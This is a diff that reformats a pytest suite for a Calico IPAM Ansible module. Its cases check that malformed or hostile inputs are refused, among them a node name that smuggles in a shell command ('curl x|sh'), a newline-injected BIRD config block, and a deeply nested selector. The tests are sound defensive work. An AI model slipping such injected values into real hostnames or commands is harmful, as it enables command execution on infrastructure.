@@ -9,8 +9,10 @@ from ansible_collections.l3.calico.plugins.module_utils.ipam_model import IpamEr
 from ansible_collections.l3.calico.plugins.module_utils.ipam_run import run
 
 BASE = {
-    "pools": [{"name": "p1", "cidr": "10.10.0.0/16", "block_size": 26, "ipip_mode": "CrossSubnet"},
-              {"name": "p2", "cidr": "10.20.0.0/16", "namespaces": ["blue"]}],
+    "pools": [
+        {"name": "p1", "cidr": "10.10.0.0/16", "block_size": 26, "ipip_mode": "CrossSubnet"},
+        {"name": "p2", "cidr": "10.20.0.0/16", "namespaces": ["blue"]},
+    ],
     "config": {"strict_affinity": False, "auto_allocate_blocks": True, "max_blocks_per_host": 0},
     "reservations": ["10.10.9.9"],
     "nodes": [
@@ -63,16 +65,13 @@ CASES = [
     ("cidr-garbage", lambda p: pool(p, cidr="ten/8"), "calico_nodes", "calico_pools[0] (p1).cidr", "ten/8"),
     ("block-size-too-small", lambda p: pool(p, block_size=19), "calico_nodes", "calico_pools[0] (p1).block_size", "19"),
     ("block-size-too-big", lambda p: pool(p, block_size=33), "calico_nodes", "calico_pools[0] (p1).block_size", "33"),
-    ("block-larger-than-pool", lambda p: pool(p, cidr="10.10.0.0/27", block_size=26), "calico_nodes",
-     "calico_pools[0] (p1).block_size", "26"),
-    ("overlapping-pools", lambda p: p["pools"].append({"name": "p3", "cidr": "10.10.128.0/17"}), "calico_nodes",
-     "calico_pools[2] (p3).cidr", "10.10.128.0/17"),
+    ("block-larger-than-pool", lambda p: pool(p, cidr="10.10.0.0/27", block_size=26), "calico_nodes", "calico_pools[0] (p1).block_size", "26"),
+    ("overlapping-pools", lambda p: p["pools"].append({"name": "p3", "cidr": "10.10.128.0/17"}), "calico_nodes", "calico_pools[2] (p3).cidr", "10.10.128.0/17"),
     ("link-local-pool", lambda p: pool(p, cidr="169.254.0.0/16"), "calico_nodes", "calico_pools[0] (p1).cidr", "169.254.0.0/16"),
     ("ipip-and-vxlan", lambda p: pool(p, vxlan_mode="Always"), "calico_nodes", "calico_pools[0] (p1).vxlan_mode", "Always"),
     ("unknown-mode", lambda p: pool(p, ipip_mode="Sometimes"), "calico_nodes", "calico_pools[0] (p1).ipip_mode", "Sometimes"),
     ("duplicate-pool-name", lambda p: p["pools"][1].update(name="p1"), "calico_nodes", "calico_pools[1].name", "p1"),
-    ("selector-syntax", lambda p: pool(p, node_selector="rack == r1"), "calico_nodes",
-     "calico_pools[0] (p1).node_selector", "rack == r1"),
+    ("selector-syntax", lambda p: pool(p, node_selector="rack == r1"), "calico_nodes", "calico_pools[0] (p1).node_selector", "rack == r1"),
     ("ipv6-pool", lambda p: pool(p, cidr="fd00::/64"), "calico_nodes", "calico_pools[0] (p1).cidr", "fd00::/64"),
     ("nat-not-bool", lambda p: pool(p, nat_outgoing="yes"), "calico_nodes", "calico_pools[0] (p1).nat_outgoing", "yes"),
     ("duplicate-workload", lambda p: p["nodes"][0]["workloads"].append({"name": "w1"}), "n1", "calico_workloads[1].name", "w1"),
@@ -90,13 +89,22 @@ CASES = [
     ("namespace-trailing-newline", lambda p: wl(p, namespace="blue\n"), "n1", "calico_workloads[0].namespace", "blue\\n"),
     ("pool-name-trailing-newline", lambda p: pool(p, name="p1\n"), "calico_nodes", "calico_pools[0].name", "p1\\n"),
     # node names are Calico Node names (DNS-1123 subdomains): they reach bird.conf, etcd keys and commands
-    ("node-name-bird-protocol", lambda p: p["nodes"][1].update(name="n2\n protocol static evil { ipv4; }"),
-     "calico_nodes", "inventory_hostname", "protocol static evil"),
-    ("node-name-shell", lambda p: p["nodes"][1].update(name="n2;curl x|sh;#"), "calico_nodes", "inventory_hostname",
-     "n2;curl x|sh;#"),
+    (
+        "node-name-bird-protocol",
+        lambda p: p["nodes"][1].update(name="n2\n protocol static evil { ipv4; }"),
+        "calico_nodes",
+        "inventory_hostname",
+        "protocol static evil",
+    ),
+    ("node-name-shell", lambda p: p["nodes"][1].update(name="n2;curl x|sh;#"), "calico_nodes", "inventory_hostname", "n2;curl x|sh;#"),
     ("node-name-etcd-key", lambda p: p["nodes"][1].update(name="rack1/n2"), "calico_nodes", "inventory_hostname", "rack1/n2"),
-    ("selector-nested-too-deep", lambda p: pool(p, node_selector="(" * 2000 + "all()" + ")" * 2000), "calico_nodes",
-     "calico_pools[0] (p1).node_selector", "nested more than 64 deep"),
+    (
+        "selector-nested-too-deep",
+        lambda p: pool(p, node_selector="(" * 2000 + "all()" + ")" * 2000),
+        "calico_nodes",
+        "calico_pools[0] (p1).node_selector",
+        "nested more than 64 deep",
+    ),
     ("unknown-workload-key", lambda p: wl(p, adress="10.10.0.1"), "n1", "calico_workloads[0]", "adress"),
     ("workloads-not-a-list", lambda p: p["nodes"][0].update(workloads="w1,w2"), "n1", "calico_workloads", "w1,w2"),
     ("node-ip-without-prefix", lambda p: p["nodes"][0].update(ip="192.168.1.1"), "n1", "calico_node_ip", "192.168.1.1"),
@@ -105,10 +113,8 @@ CASES = [
     ("labels-not-a-dict", lambda p: p["nodes"][0].update(labels=["rack=r1"]), "n1", "calico_node_labels", "rack=r1"),
     ("label-value-not-string", lambda p: p["nodes"][0].update(labels={"rack": ["r1"]}), "n1", "calico_node_labels.rack", "r1"),
     ("bad-reservation", lambda p: p.update(reservations=["10.10.0.0/33"]), "calico_nodes", "calico_reservations[0]", "10.10.0.0/33"),
-    ("negative-max-blocks", lambda p: p.update(config={"max_blocks_per_host": -1}), "calico_nodes",
-     "calico_ipam_config.max_blocks_per_host", "-1"),
-    ("no-strict-no-auto", lambda p: p.update(config={"auto_allocate_blocks": False}), "calico_nodes",
-     "calico_ipam_config.auto_allocate_blocks", "False"),
+    ("negative-max-blocks", lambda p: p.update(config={"max_blocks_per_host": -1}), "calico_nodes", "calico_ipam_config.max_blocks_per_host", "-1"),
+    ("no-strict-no-auto", lambda p: p.update(config={"auto_allocate_blocks": False}), "calico_nodes", "calico_ipam_config.auto_allocate_blocks", "False"),
     ("unknown-config-key", lambda p: p.update(config={"strictAffinity": True}), "calico_nodes", "calico_ipam_config", "strictAffinity"),
     # 64 addresses in n1's only block (no tunnel: the pool has no IPIP): s64 is the first left without one
     ("strict-affinity-exhausted", strict, "n1", "calico_workloads[64]", "default.s64"),
@@ -120,31 +126,34 @@ CASES = [
     ("remove-with-per-host-node", lambda p: p.update(node="n1", remove_nodes=["n2"]), "n1", "remove_nodes", "n2"),
     # pool migration steps (option evacuate)
     ("evacuate-unknown-pool", lambda p: p.update(evacuate={"pool": "p9", "nodes": ["n1"]}), "calico_nodes", "evacuate.pool", "p9"),
-    ("evacuate-pool-not-disabled", lambda p: p.update(evacuate={"pool": "p1", "nodes": ["n1"]}), "calico_nodes",
-     "calico_pools[0] (p1).disabled", "False"),
+    ("evacuate-pool-not-disabled", lambda p: p.update(evacuate={"pool": "p1", "nodes": ["n1"]}), "calico_nodes", "calico_pools[0] (p1).disabled", "False"),
     ("evacuate-unknown-node", lambda p: migrate(p, nodes=["n1", "n9"]), "n9", "evacuate.nodes[1]", "n9"),
-    ("evacuate-nodes-not-a-list", lambda p: p.update(evacuate={"pool": "p1", "nodes": 5}) or pool(p, disabled=True)
-     or p["pools"].append({"name": "p3", "cidr": "10.30.0.0/16"}), "calico_nodes", "evacuate.nodes", "5"),
+    (
+        "evacuate-nodes-not-a-list",
+        lambda p: p.update(evacuate={"pool": "p1", "nodes": 5}) or pool(p, disabled=True) or p["pools"].append({"name": "p3", "cidr": "10.30.0.0/16"}),
+        "calico_nodes",
+        "evacuate.nodes",
+        "5",
+    ),
     ("evacuate-not-a-mapping", lambda p: p.update(evacuate="p1"), "calico_nodes", "evacuate", "p1"),
     ("evacuate-unknown-key", lambda p: migrate(p, host="n1"), "calico_nodes", "evacuate", "host"),
-    ("evacuate-run-node-not-evacuated", lambda p: migrate(p) or p["evacuate"].update(run_nodes=["n2"]), "n2",
-     "evacuate.run_nodes[0]", "n2"),
-    ("evacuate-run-node-not-a-name", lambda p: migrate(p) or p["evacuate"].update(run_nodes=["n1", 7]), "7",
-     "evacuate.run_nodes[1]", "7"),
-    ("evacuate-run-nodes-not-a-list", lambda p: migrate(p) or p["evacuate"].update(run_nodes="n1"), "calico_nodes",
-     "evacuate.run_nodes", "n1"),
+    ("evacuate-run-node-not-evacuated", lambda p: migrate(p) or p["evacuate"].update(run_nodes=["n2"]), "n2", "evacuate.run_nodes[0]", "n2"),
+    ("evacuate-run-node-not-a-name", lambda p: migrate(p) or p["evacuate"].update(run_nodes=["n1", 7]), "7", "evacuate.run_nodes[1]", "7"),
+    ("evacuate-run-nodes-not-a-list", lambda p: migrate(p) or p["evacuate"].update(run_nodes="n1"), "calico_nodes", "evacuate.run_nodes", "n1"),
     ("evacuate-with-per-host-node", lambda p: migrate(p, node="n1"), "n1", "evacuate", "p1"),
     ("evacuate-with-remove-nodes", lambda p: migrate(p, remove_nodes=["n2"]), "calico_nodes", "evacuate", "remove_nodes"),
     ("evacuate-no-enabled-pool", lambda p: migrate(p, new=False), "calico_nodes", "calico_pools", "p1"),
     ("evacuate-workload-pinned-to-old-pool", lambda p: (migrate(p), wl(p, pool="p1")), "n1", "calico_workloads[0].pool", "p1"),
-    ("evacuate-workload-requests-old-address", lambda p: (migrate(p), wl(p, ip="10.10.0.9")), "n1",
-     "calico_workloads[0].ip", "10.10.0.9"),
+    ("evacuate-workload-requests-old-address", lambda p: (migrate(p), wl(p, ip="10.10.0.9")), "n1", "calico_workloads[0].ip", "10.10.0.9"),
     # one address in the new pool for w1 (n1) and w2 (n2): n2 (planned after n1) finds it exhausted
-    ("evacuate-new-pool-too-small",
-     lambda p: migrate(p, nodes=["n1", "n2"], new={"name": "p3", "cidr": "10.30.0.0/32", "block_size": 32}),
-     "n2", "calico_workloads[0]", "default.w2"),
-    ("pool-selector-excludes-node", lambda p: (pool(p, node_selector="rack == 'r1'"), wl(p, 1, 0, pool="p1")), "n2",
-     "calico_workloads[0].pool", "p1"),
+    (
+        "evacuate-new-pool-too-small",
+        lambda p: migrate(p, nodes=["n1", "n2"], new={"name": "p3", "cidr": "10.30.0.0/32", "block_size": 32}),
+        "n2",
+        "calico_workloads[0]",
+        "default.w2",
+    ),
+    ("pool-selector-excludes-node", lambda p: (pool(p, node_selector="rack == 'r1'"), wl(p, 1, 0, pool="p1")), "n2", "calico_workloads[0].pool", "p1"),
 ]
 
 
@@ -179,8 +188,16 @@ def test_at_least_twenty_cases():
     assert len(CASES) >= 20
 
 
-@pytest.mark.parametrize("content", [b"{not json", b"", b'{"format": "l3.calico/ipam", "version": 99}',
-                                     b'{"format": "something-else"}', b'{"format": "l3.calico/ipam", "version": 1, "blocks": 5}'])
+@pytest.mark.parametrize(
+    "content",
+    [
+        b"{not json",
+        b"",
+        b'{"format": "l3.calico/ipam", "version": 99}',
+        b'{"format": "something-else"}',
+        b'{"format": "l3.calico/ipam", "version": 1, "blocks": 5}',
+    ],
+)
 def test_corrupt_or_unknown_state_file_is_refused_and_kept(recorded, content):
     params, _w1 = recorded
     with open(params["state_file"], "wb") as handle:
